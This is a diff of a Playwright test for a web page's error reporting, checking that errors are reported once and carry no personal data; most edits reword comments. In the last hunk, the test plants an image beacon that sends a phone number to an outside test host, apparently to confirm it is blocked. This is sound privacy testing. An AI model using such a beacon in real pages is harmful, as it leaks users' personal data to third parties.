@@ -5,18 +5,18 @@ import { expect, test, type Site } from './site.ts';
 const config = /^\/config\.json$/;
 const reports = /^\/reports$/;
 const names = ['Ana Torres'];
-/** What must not leave the page. */
+/** Texts that must not leave the page. */
 const personal = /Devon|Hartley|555|0102030|mail\.test|Kitchen|Ana|Torres|ana-torres/;
 
 test.use({ allowConsole: ['pageerror: ', 'console.error: ', 'blocked: '] });
 
-/** A receiver on the site's own server, which the page is told of. */
+/** A receiver of reports on the site's own server, in the page's configuration. */
 function receive(site: Site, status = 204) {
   const bodies: string[] = [];
   const types: (string | undefined)[] = [];
-  const said = { designatedTelemarketers: names, errorReportUrl: '/reports' };
+  const settings = { designatedTelemarketers: names, errorReportUrl: '/reports' };
   site.fail(config, (response) =>
-    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(said)),
+    response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(settings)),
   );
   site.fail(reports, async (response, message) => {
     let body = '';
@@ -28,11 +28,11 @@ function receive(site: Site, status = 204) {
   return {
     bodies,
     types,
-    errors: () => bodies.flatMap((body) => (JSON.parse(body) as { errors: ErrorReport[] }).errors),
+    errors: () => bodies.flatMap((sent) => (JSON.parse(sent) as { errors: ErrorReport[] }).errors),
   };
 }
 
-/** By a held clock: the code of the reports comes a second after the first look. */
+/** Opens with a held clock, since the code of the reports comes a second after the first view. */
 async function expectCode(page: Page, site: Site) {
   await expect
     .poll(async () => {
@@ -43,7 +43,7 @@ async function expectCode(page: Page, site: Site) {
   await page.waitForLoadState('networkidle');
 }
 
-/** Uncaught in the page. Not by a timer: the held clock catches what its timers throw. */
+/** Throws an uncaught error in the page. The held clock would catch one of a timer. */
 const throwInPage = (page: Page, message: string) =>
   page.evaluate((text) => {
     queueMicrotask(() => {
@@ -53,7 +53,7 @@ const throwInPage = (page: Page, message: string) =>
 
 test('every kind of error is reported once, without personal data', async ({ page, site }) => {
   const received = receive(site);
-  // Before the code of the reports is there.
+  // Thrown before the code of the reports is there.
   await page.addInitScript(() => {
     addEventListener('DOMContentLoaded', () => {
       throw new RangeError('Invalid time value');
@@ -69,7 +69,7 @@ test('every kind of error is reported once, without personal data', async ({ pag
   const hostile = 'No row for Devon Hartley, (555) 010-2030, devon@mail.test: "Kitchen"';
   for (let times = 0; times < 3; times += 1) await throwInPage(page, hostile);
   await page.evaluate(() => void Promise.reject(new Error('Ana Torres is not defined')));
-  // In a task of its own: for an evaluation the debugger lifts the policy.
+  // In its own task, since the debugger lifts the policy during an evaluation.
   await page.evaluate(() => {
     setTimeout(() => {
       new Image().src = 'https://ana-torres.test/x?phone=5550102030';
